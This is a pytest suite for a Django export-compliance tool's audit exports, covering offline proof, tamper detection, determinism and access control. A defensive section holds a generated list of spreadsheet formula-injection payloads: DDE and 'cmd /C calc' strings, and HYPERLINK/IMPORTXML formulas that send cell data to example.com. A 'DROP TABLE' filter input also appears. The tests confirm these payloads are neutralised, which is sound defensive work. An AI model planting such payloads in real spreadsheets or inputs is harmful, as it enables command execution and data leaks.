"""Exports for an audit: whole, provable offline, the same bytes each time, on record, and without formulas."""

from __future__ import annotations

import csv
import datetime
import hashlib
import html
import io
import itertools
import json
import re
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.exceptions import PermissionDenied
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.factories import WEIGHTS_TO_INDIA, CaseFactory, MemoFactory, UserFactory
from tests.wizard.conftest import SignIn
from wizard.accounts import Role
from wizard.desk import acts, audit_export, retention, tables
from wizard.desk.acts import Anchor
from wizard.desk.audit_export import Export, NothingError, TooManyError
from wizard.desk.custody import ExportAct, RetentionEvent
from wizard.desk.models import Docket
from wizard.ledger import log
from wizard.ledger.audit import audit
from wizard.models import Memo
from wizard.record import sha256


@pytest.fixture
def memos(sales: User, legal: User) -> list[Memo]:
    """Three memos; the first approved, its case exported and held; the second superseded by the third."""
    first = MemoFactory.create(case__owner=sales)
    second = MemoFactory.create(case=CaseFactory.create(owner=sales, answers=WEIGHTS_TO_INDIA))
    acts.comment(first, legal, "Read the order.", Anchor(fact="destination"))
    acts.approve(first, legal, "Daniel Okafor")
    retention.happen(first.case, legal, RetentionEvent.Kind.EXPORTED, datetime.date(2026, 9, 1), "")
    retention.hold(first.case, legal, "Letter", agency="BIS")
    return [first, second, MemoFactory.create(case=second.case)]


@pytest.fixture
def browser(legal: User, sign_in: SignIn) -> Client:
    """A browser of the legal desk."""
    return sign_in(legal)


def begun(by: User) -> ExportAct:
    """An export of every memo."""
    return audit_export.begin(Docket.objects.all(), by, {})


def whole(statement: ExportAct, piece: int = 1, *, documents: bool = False) -> bytes:
    """An archive in one."""
    made = Export(statement, lambda memo: f"https://wizard.example/verify/?code={memo.verification_code}")
    return b"".join(made.archive(piece, documents=documents))


def unpack(archive: bytes, folder: Path) -> Path:
    """The archive's files in a folder."""
    with zipfile.ZipFile(io.BytesIO(archive)) as packed:
        assert packed.testzip() is None
        packed.extractall(folder)
    return folder


def check(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Check an unpacked archive with the program in it, as an auditor does: no packages, another directory."""
    return subprocess.run(
        [sys.executable, "-I", "-S", "-c", _RUN, str(folder), *arguments],
        capture_output=True,
        text=True,
        cwd="/",
        check=False,
    )


_RUN = """
import runpy, sys
folder, *options = sys.argv[1:]
sys.path.insert(0, folder)
sys.argv = ["check_export.py", *options, folder]
runpy.run_path(folder + "/check_export.py", run_name="__main__")
"""


def sheet_of(workbook: bytes) -> Worksheet:
    """The one sheet of a workbook, read back."""
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def key() -> str:
    """The key id that the verify page publishes."""
    head = log.latest()
    assert head is not None
    return head.key_id


def test_an_archive_holds_everything_and_proves_it_offline(
    memos: list[Memo], legal: User, tmp_path: Path
) -> None:
    folder = unpack(whole(begun(legal), documents=True), tmp_path / "export")
    first, second, _third = memos
    assert (folder / f"memos/{first.number}/memo.json").read_bytes() == first.canonical.encode()
    for memo in memos:
        for language in ("en", "zh-hans"):
            pdf = folder / f"memos/{memo.number}/{memo.number}-{language}.pdf"
            assert pdf.read_bytes().startswith(b"%PDF-")
    names = sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*.json"))
    assert f"memos/{first.number}/act-0002-approved.json" in names
    assert f"memos/{second.number}/act-0001-superseded-proof.json" in names
    assert f"cases/{first.case.reference}/retention-0002-held-proof.json" in names
    done = check(folder, "--key", key())
    assert done.stdout == (
        "3 memos and 6 acts as recorded, 0 wrong.\n"
        f"Export {ExportAct.objects.get().number}: 3 memos match what was asked: every memo.\n"
        "No memo, act of review or retention event was changed, and none that the statement names for this piece is "
        "missing.\n"
        "NOT CHECKED: PDF, Word, index and text files are copies for reading, and so are the programs; only sums that "
        "nobody signed go with them. The JSON files are the record.\n"
    )
    assert done.returncode == 0
    assert check(folder).returncode == 3
    assert check(folder, "--key", "0" * 64).returncode == 1
    assert f"--key {key()}" in (folder / "README.txt").read_text()


TAMPERING: dict[str, Callable[[Path, list[Memo]], object]] = {
    "a memo left out": lambda folder, memos: _remove(folder / f"memos/{memos[1].number}"),
    "a memo left out and the sums mended": lambda folder, memos: _mend(
        _remove(folder / f"memos/{memos[1].number}"), folder
    ),
    "the last memo left out and the sums mended": lambda folder, memos: _mend(
        _remove(folder / f"memos/{memos[2].number}"), folder
    ),
    "an act changed": lambda folder, memos: _mend(
        _replace(folder / f"memos/{memos[0].number}/act-0002-approved.json", b"Okafor", b"Nobody"), folder
    ),
    "a memo changed": lambda folder, memos: _mend(
        _replace(folder / f"memos/{memos[0].number}/memo.json", b'"DE"', b'"FR"'), folder
    ),
    "a memo changed in its proof": lambda folder, memos: _mend(
        _replace(folder / f"memos/{memos[0].number}/proof.json", b'\\"DE\\"', b'\\"FR\\"'), folder
    ),
    "the index changed": lambda folder, memos: _replace(folder / "index.csv", b"Germany", b"France"),
    "the statement changed": lambda folder, memos: _mend(
        _replace(folder / "statement.json", b'"matched":"3"', b'"matched":"2"'), folder
    ),
    "the statement left out": lambda folder, memos: _mend(_remove(folder / "statement-proof.json"), folder),
    "an act left out and the sums mended": lambda folder, memos: _mend(
        _without(folder, f"memos/{memos[0].number}/act-0002-approved"), folder
    ),
    "every act left out and the sums mended": lambda folder, memos: _mend(
        _without(folder, "memos/*/act-"), folder
    ),
    "a retention event left out and the sums mended": lambda folder, memos: _mend(
        _without(folder, f"cases/{memos[0].case.reference}/retention-0002-held"), folder
    ),
    "the proof of an act left out and the sums mended": lambda folder, memos: _mend(
        _remove(folder / f"memos/{memos[0].number}/act-0002-approved-proof.json"), folder
    ),
    "an act under another number": lambda folder, memos: _mend(
        _moved(folder / f"memos/{memos[0].number}", "act-0002-approved", "act-0003-approved"), folder
    ),
    "an act that nobody sealed": lambda folder, memos: _mend(
        _new(folder / f"memos/{memos[1].number}/act-0002-approved.json", b"{}"), folder
    ),
    "another signed head": lambda folder, memos: _mend(
        _replace(folder / "checkpoint.txt", b"time 20", b"time 19"), folder
    ),
    "a file too many": lambda folder, memos: (folder / "more.txt").write_text("x"),
}


def _remove(path: Path) -> Path:
    for file in [path] if path.is_file() else list(path.iterdir()):
        file.unlink()
    return path


def _replace(path: Path, old: bytes, new: bytes) -> Path:
    content = path.read_bytes()
    assert old in content
    path.write_bytes(content.replace(old, new))
    return path


def _without(folder: Path, beginning: str) -> Path:
    """The folder without the files that begin like this."""
    gone = list(folder.glob(f"{beginning}*"))
    assert gone
    for file in gone:
        file.unlink()
    return folder


def _moved(folder: Path, old: str, new: str) -> Path:
    for end in (".json", "-proof.json"):
        (folder / f"{old}{end}").rename(folder / f"{new}{end}")
    return folder


def _new(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


def _mend(_changed: Path, folder: Path) -> None:
    """Make the sums right again, as whoever tampers would."""
    lines = [
        f"{sha256_of(path)}  {path.relative_to(folder).as_posix()}\n"
        for path in sorted(folder.rglob("*"))
        if path.is_file() and path.name != "SHA256SUMS"
    ]
    (folder / "SHA256SUMS").write_text("".join(lines))


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("how", TAMPERING)
def test_what_is_missing_or_changed_shows(memos: list[Memo], legal: User, tmp_path: Path, how: str) -> None:
    folder = unpack(whole(begun(legal)), tmp_path / "export")
    TAMPERING[how](folder, memos)
    done = check(folder, "--key", key())
    assert done.returncode == 1, done.stderr
    assert "WRONG" in done.stdout


def test_what_was_not_sealed_is_said_not_to_be_checked(
    memos: list[Memo], legal: User, tmp_path: Path
) -> None:
    """A PDF of another memo, or a word of the index, with its sum: the sums are signed by nobody."""
    folder = unpack(whole(begun(legal), documents=True), tmp_path / "export")
    of_first, of_second = (folder / f"memos/{memo.number}/{memo.number}-en.pdf" for memo in memos[:2])
    of_first.write_bytes(of_second.read_bytes())
    _mend(_replace(folder / "index.csv", b"Germany", b"France"), folder)
    done = check(folder, "--key", key())
    assert done.returncode == 0
    assert "NOT CHECKED: PDF, Word, index and text files are copies for reading" in done.stdout
    assert "NOT CHECKED" in check(folder).stdout


def test_an_act_of_another_time_is_not_in_the_export(memos: list[Memo], legal: User, tmp_path: Path) -> None:
    """Neither what came after the statement, nor a sound proof from another export."""
    statement = begun(legal)
    acts.comment(memos[0], legal, "Later.", Anchor())
    folder = unpack(whole(statement), tmp_path / "export")
    assert check(folder, "--key", key()).returncode == 0
    later = unpack(whole(begun(legal)), tmp_path / "later")
    for end in (".json", "-proof.json"):
        name = f"memos/{memos[0].number}/act-0003-commented{end}"
        (folder / name).write_bytes((later / name).read_bytes())
    _mend(folder, folder)
    done = check(folder, "--key", key())
    assert done.returncode == 1
    assert f"review {memos[0].number}.3 is not one that the statement names for piece 1." in done.stdout


def test_a_statement_of_before_stays_checkable_and_says_what_it_does_not_prove(
    memos: list[Memo], legal: User, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    statement_of = audit_export._statement

    def earlier(*given: Any) -> dict[str, Any]:
        content = statement_of(*given)
        kept = [{name: piece[name] for name in ("memos", "sha256")} for piece in content["pieces"]]
        return {**content, "pieces": kept}

    with monkeypatch.context() as patched:
        patched.setattr(audit_export, "_statement", earlier)
        patched.setattr(audit_export, "FORMAT", 1)
        statement = begun(legal)
    folder = unpack(whole(statement), tmp_path / "export")
    assert "names none" in (folder / "README.txt").read_text()
    _mend(_without(folder, f"memos/{memos[0].number}/act-0002-approved"), folder)
    done = check(folder, "--key", key())
    assert done.returncode == 0
    assert "NOT PROVEN: that no act of review and no retention event is missing." in done.stdout
    _mend(_without(folder, f"memos/{memos[1].number}/"), folder)
    assert check(folder, "--key", key()).returncode == 1


def test_the_same_piece_is_the_same_bytes_whatever_happens_afterwards(
    memos: list[Memo], sales: User, legal: User
) -> None:
    statement = begun(legal)
    before = whole(statement, documents=True)
    made = Export(statement, lambda memo: "x")
    table, workbook = b"".join(made.list_csv()), made.list_xlsx()
    acts.send_back(memos[0], legal, "", [acts.Question("destination", "Where?")])
    retention.happen(memos[0].case, legal, RetentionEvent.Kind.TERMINATED, datetime.date(2026, 10, 1), "")
    MemoFactory.create(case__owner=sales)
    assert whole(statement, documents=True) == before
    assert b"".join(made.list_csv()) == table
    assert made.list_xlsx() == workbook


def test_the_statement_is_sealed_and_says_what_an_auditor_needs(memos: list[Memo], legal: User) -> None:
    statement = audit_export.begin(Docket.objects.filter(destination="IN"), legal, {"destination": "IN"})
    content = statement.content
    assert content["asked"] == {"destination": "IN"}
    assert content["matched"] == "2"
    assert content["pieces"][0]["memos"] == [memos[1].number, memos[2].number]
    lines = "".join(f"{memo.number} {memo.sha256}\n" for memo in memos[1:])
    assert content["sha256"] == content["pieces"][0]["sha256"] == sha256(lines)
    replaced = memos[1].acts.get()
    assert content["pieces"][0]["acts"] == {memos[1].number: {"1": replaced.sha256}}
    assert content["pieces"][0]["retention"] == {}
    assert content["ledger"]["memos"] == "3"
    size = int(content["ledger"]["size"])
    head = log.latest()
    assert head is not None
    assert (head.size, int(content["ledger"]["first_entry"])) == (size + 1, 2)
    assert audit().kinds["export"] == 1
    of_first = begun(legal).content["pieces"][0]
    assert of_first["acts"][memos[0].number] == {
        str(act.number): act.sha256 for act in memos[0].acts.order_by("number")
    }
    assert of_first["retention"] == {
        memos[0].case.reference: {
            str(event.number): event.sha256 for event in memos[0].case.retention_events.order_by("number")
        }
    }


def test_many_memos_come_in_pieces_each_of_them_checkable(
    memos: list[Memo], legal: User, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_export, "PIECE", 2)
    statement = begun(legal)
    assert [len(piece["memos"]) for piece in statement.content["pieces"]] == [2, 1]
    for piece in (1, 2):
        folder = unpack(whole(statement, piece), tmp_path / str(piece))
        assert check(folder, "--key", key()).returncode == 0
        assert f"PIECE {piece} OF 2" in (folder / "README.txt").read_text()


def test_an_export_is_bounded(memos: list[Memo], legal: User, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(audit_export, "LIMIT", 2)
    with pytest.raises(TooManyError) as error:
        begun(legal)
    assert error.value.matched == 3
    with pytest.raises(NothingError):
        audit_export.begin(Docket.objects.none(), legal, {})
    assert not ExportAct.objects.exists()


def test_memory_stays_flat(sales: User, legal: User, monkeypatch: pytest.MonkeyPatch) -> None:
    """Four times as many memos take no more memory on their way out."""
    monkeypatch.setattr(audit_export, "BATCH", 4)
    case = CaseFactory.create(owner=sales, answers=WEIGHTS_TO_INDIA)
    all_of_them = [MemoFactory.create(case=case) for _ in range(40)]
    few = audit_export.begin(Docket.objects.filter(memo__in=all_of_them[:10]), legal, {})
    peaks = []
    for statement in (few, few, begun(legal)):  # the first time, modules and templates are read as well
        made = Export(statement, lambda memo: "x")
        tracemalloc.start()
        largest = max(len(part) for part in made.archive(1, documents=False))
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert largest < 100_000
    assert peaks[2] < 1.25 * peaks[1]


# ------------------------------------------------------------------------------------------------ tables

BEGINNINGS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\t=",
    "\u00a0=",
    "\u3000＝",
    "\n@",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.com/?x="&A1,"click")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "",
    "A1\n=1+1",
    ",=1+1",
    '",=1+1,"',
    ";=1+1",
    "'=1+1",
    "你好",
]
PAYLOADS = [beginning + body for beginning, body in itertools.product(BEGINNINGS, BODIES)]


def test_no_cell_is_a_formula() -> None:
    """A generated list of payloads, written and read back as CSV and as XLSX."""
    moment = datetime.datetime(2026, 9, 1, 12, tzinfo=datetime.UTC)
    rows: list[list[tables.Cell]] = [[payload, 7, moment.date(), payload] for payload in PAYLOADS]
    text = b"".join(tables.as_csv(PAYLOADS[:4], rows)).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == len(rows) + 1
    for cells in read:
        assert len(cells) == 4
        assert not any(cell.lstrip()[:1] in tables.FORMULAS for cell in cells if cell.strip())
        assert not any(cell[:1] in tables.FORMULAS for cell in cells if cell)
    sheet = sheet_of(tables.as_xlsx(PAYLOADS[:4], rows, made=moment))
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s", "n", "d"}
    shown = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert len(shown) == len(PAYLOADS)
    assert all(str(value)[:1] == "'" for value in shown)


def test_plain_texts_stay_as_they_are() -> None:
    for text in ("", "Rheinwerk KI GmbH", "3 = 3", "x-ray", "'quoted", "中文，标题", "a\tb"):
        assert tables.neutral(text) == text
    assert tables.neutral("a\x00b\x0bc") == "abc"


def test_a_hostile_title_reaches_the_index_as_text(sales: User, legal: User) -> None:
    MemoFactory.create(case=CaseFactory.create(owner=sales, title="=1+1", answers=WEIGHTS_TO_INDIA))
    made = Export(begun(legal), lambda memo: "x")
    rows = list(csv.DictReader(io.StringIO(b"".join(made.list_csv()).decode("utf-8-sig"), newline="")))
    assert rows[0]["Title"] == "'=1+1"
    sheet = sheet_of(made.list_xlsx())
    head = [cell.value for cell in sheet[1]]
    row = dict(zip(head, sheet[2], strict=True))
    assert (row["Title"].value, row["Title"].data_type) == ("'=1+1", "s")
    assert row["Date of the transaction"].value == datetime.datetime.fromisoformat("2026-09-01")
    assert isinstance(row["Recorded (UTC)"].value, datetime.datetime)
    assert isinstance(row["Ledger entry"].value, int)


def test_the_index_says_how_long_and_where_it_stands(memos: list[Memo], legal: User) -> None:
    made = Export(begun(legal), lambda memo: "x")
    rows = list(csv.DictReader(io.StringIO(b"".join(made.list_csv()).decode("utf-8-sig"), newline="")))
    first, second, _third = rows
    assert (first["State"], first["Keep at least until"], first["Holds that stand"]) == (
        "approved",
        "2031-09-01",
        "1",
    )
    assert "15 CFR 762.6(a)(1)" in first["Counted from"]
    assert (second["State"], second["Keep at least until"]) == (
        "superseded",
        "unknown until an event is recorded",
    )
    assert {row["Bytes as sealed"] for row in rows} == {"yes"}


# ------------------------------------------------------------------------------------------------ pages


def test_from_the_choice_to_the_file(memos: list[Memo], browser: Client, legal: User, tmp_path: Path) -> None:
    counted = browser.get(reverse("export"), {"country": "IN"})
    assert "2 memos match" in counted.content.decode()
    sent = {"country": "IN", "recorded_from": "2020-01-01", "recorded_to": "9999-12-31"}
    sealed = browser.post(reverse("export"), sent)
    page = browser.get(sealed["Location"])
    assert "2 of 3 in the ledger" in page.content.decode()
    statement = ExportAct.objects.get(step=0)
    address = reverse("export_file", args=[statement.public_id])
    answer: Any = browser.post(address, {"file": "archive", "piece": "1"})
    content = b"".join(answer.streaming_content)
    assert answer["Content-Disposition"] == f'attachment; filename="{statement.number}-01-without-pdf.zip"'
    assert check(unpack(content, tmp_path / "export"), "--key", key()).returncode == 0
    taken = ExportAct.objects.get(step=1)
    assert (taken.by, taken.content["bytes"]) == (legal, str(len(content)))
    (tmp_path / "file").write_bytes(content)
    assert taken.content["sha256"] == sha256_of(tmp_path / "file")
    for file, beginning in (("csv", b"\xef\xbb\xbf"), ("xlsx", b"PK")):
        answer = browser.post(address, {"file": file})
        assert b"".join(answer.streaming_content).startswith(beginning)
    assert [act.content["file"] for act in ExportAct.objects.filter(step__gt=0).order_by("step")] == [
        f"{statement.number}-01-without-pdf.zip",
        f"{statement.number}.csv",
        f"{statement.number}.xlsx",
    ]
    assert taken.content["sha256"] in browser.get(sealed["Location"]).content.decode()


@pytest.mark.parametrize(
    ("sent", "count"),
    [
        ({}, 3),
        ({"state": "approved"}, 1),
        ({"state": "superseded"}, 1),
        ({"outcome": "license_required"}, None),
        ({"q": "India"}, 2),
        ({"q": "nowhere", "state": "all"}, 0),
        ({"flag": "embargo"}, 0),
        ({"policy": "presumption_of_denial"}, 2),
        ({"date_from": "2026-09-01", "date_to": "2026-09-01"}, 3),
        ({"date_from": "2026-09-02"}, 0),
        ({"date_to": "2026-08-31"}, 0),
        ({"recorded_to": "2020-01-01"}, 0),
        ({"recorded_from": "9999-12-31"}, 0),
        ({"state": "waiting", "country": "IN"}, 1),
    ],
)
def test_what_is_chosen(memos: list[Memo], browser: Client, sent: dict[str, str], count: int | None) -> None:
    matched = browser.get(reverse("export"), sent).context["matched"]
    assert matched == (Memo.objects.filter(outcome="license_required").count() if count is None else count)


def test_memos_are_chosen_by_their_numbers_and_cases(memos: list[Memo], browser: Client) -> None:
    numbers = f"{memos[0].number.lower()}，{memos[1].case.reference}"
    assert browser.get(reverse("export"), {"numbers": numbers}).context["matched"] == 3
    assert browser.get(reverse("export"), {"numbers": memos[2].number}).context["matched"] == 1


@pytest.mark.parametrize(
    ("sent", "says"),
    [
        ({"numbers": "M-2026-1; DROP TABLE"}, "Not understood: DROP"),
        ({"recorded_from": "yesterday"}, "recorded_from"),
        ({"state": "lost"}, "state"),
        ({"country": "ZZ"}, "country"),
        ({"country": "FR"}, "No memo matches"),
        ({"owner": "nobody"}, "There is nobody with this user name."),
        ({"state": "mine"}, "state"),
    ],
)
def test_a_choice_that_cannot_be_is_said(
    memos: list[Memo], browser: Client, sent: dict[str, str], says: str
) -> None:
    refused = browser.post(reverse("export"), sent)
    assert refused.status_code == 422
    assert says in refused.content.decode()
    assert not ExportAct.objects.exists()


def test_too_many_are_said_with_what_to_do(
    memos: list[Memo], browser: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_export, "LIMIT", 2)
    for answer in (browser.get(reverse("export")), browser.post(reverse("export"))):
        assert "3 memos match; one export takes at most 2. Narrow the choice" in answer.content.decode()


def test_only_the_desk_exports(memos: list[Memo], sales: User, legal: User, sign_in: SignIn) -> None:
    statement = begun(legal)
    addresses = [reverse("export"), reverse("export_taken", args=[statement.public_id])]
    file = reverse("export_file", args=[statement.public_id])
    for address in addresses:
        assert sign_in(sales).get(address).status_code == 403
        assert sign_in(UserFactory.create(role=Role.ADMINISTRATOR)).get(address).status_code == 200
    assert sign_in(sales).post(file, {"file": "csv"}).status_code == 403
    assert sign_in(sales).post(addresses[0], {}).status_code == 403
    assert sign_in(legal).get(file).status_code == 405
    with pytest.raises(PermissionDenied):
        begun(sales)
    for piece in ("0", "2", "-1", "x", "", "99999999"):
        assert sign_in(legal).post(file, {"file": "archive", "piece": piece}).status_code == 404
    assert ExportAct.objects.count() == 1


def test_a_tampered_memo_is_handed_out_as_what_it_is(
    memos: list[Memo], legal: User, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No PDF is made of it, the index says so, and its proof fails."""
    statement = begun(legal)
    changed = json.loads(memos[0].canonical)
    changed["case"]["title"] = "Another"
    original = Memo.from_db.__func__  # type: ignore[attr-defined]

    def tampered(cls: type[Memo], *args: Any) -> Memo:
        row: Memo = original(cls, *args)
        if row.__dict__.get("number") == memos[0].number and "canonical" in row.__dict__:
            row.canonical = json.dumps(changed)
        return row

    monkeypatch.setattr(Memo, "from_db", classmethod(tampered))
    folder = unpack(whole(statement, documents=True), tmp_path / "export")
    assert not list((folder / f"memos/{memos[0].number}").glob("*.pdf"))
    rows = csv.DictReader(io.StringIO((folder / "index.csv").read_text("utf-8-sig"), newline=""))
    assert [row["Bytes as sealed"] for row in rows] == ["NO", "yes", "yes"]
    assert "The memo was changed" in check(folder, "--key", key()).stdout


def test_the_queue_leads_to_an_export_of_what_it_shows(memos: list[Memo], browser: Client) -> None:
    queue = browser.get("/", {"state": "all", "country": "IN"}).content.decode()
    found = re.search(r'href="(/desk/export/\?[^"]+)"', queue)
    assert found is not None
    shown = set(re.findall(r"M-\d{4}-\d{4}", queue))
    page = browser.get(html.unescape(found[1])).content.decode()
    assert f"{len(shown)} memo" in page
    # What waits for somebody depends on who asks, so it is not what an audit can be given.
    assert "/desk/export/?" not in browser.get("/", {"country": "IN"}).content.decode()


def test_days_at_the_end_of_the_calendar_are_no_fault(memos: list[Memo], browser: Client) -> None:
    for address in ("/", "/desk/export/"):
        sent = {"state": "all", "recorded_from": "0001-01-01", "recorded_to": "9999-12-31"}
        assert memos[0].number in browser.get("/", sent).content.decode()
        assert browser.get(address, sent).status_code == 200
        assert browser.get(address, {"recorded_from": "9999-12-31"}).status_code == 200
